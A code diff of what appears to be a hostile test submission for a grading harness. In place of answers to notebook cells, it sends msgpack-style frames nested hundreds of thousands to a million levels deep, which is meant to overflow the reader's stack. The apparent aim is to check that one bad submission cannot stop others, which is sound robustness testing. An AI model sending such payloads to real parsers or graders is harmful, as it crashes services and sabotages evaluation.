@@ -1,4 +1,7 @@
-"""Send a frame nested a million levels deep, to overflow the stack of its reader. (No submission stops another.)"""
+"""Send a frame nested a million levels deep, to overflow the stack of its reader.
+
+Against: no submission stops another.
+"""
 # stock: there is no such channel
 
 # %% after conv-output-shape
@@ -19,4 +22,5 @@ send(b"\x91" * 1_000_000 + b"\xc0")
 
 # %% answer conv-parameters
 def conv_parameters(*args, **kwargs):
-    send(b"\x83\xa4type\xa6answer\xa6number\x01\xa4body" + b"\x82\xa4type\xa5value\xa4node" + b"\x93\xa1l\xa4list\x91" * 200_000 + b"\xc0")
+    start = b"\x83\xa4type\xa6answer\xa6number\x01\xa4body\x82\xa4type\xa5value\xa4node"
+    send(start + b"\x93\xa1l\xa4list\x91" * 200_000 + b"\xc0")
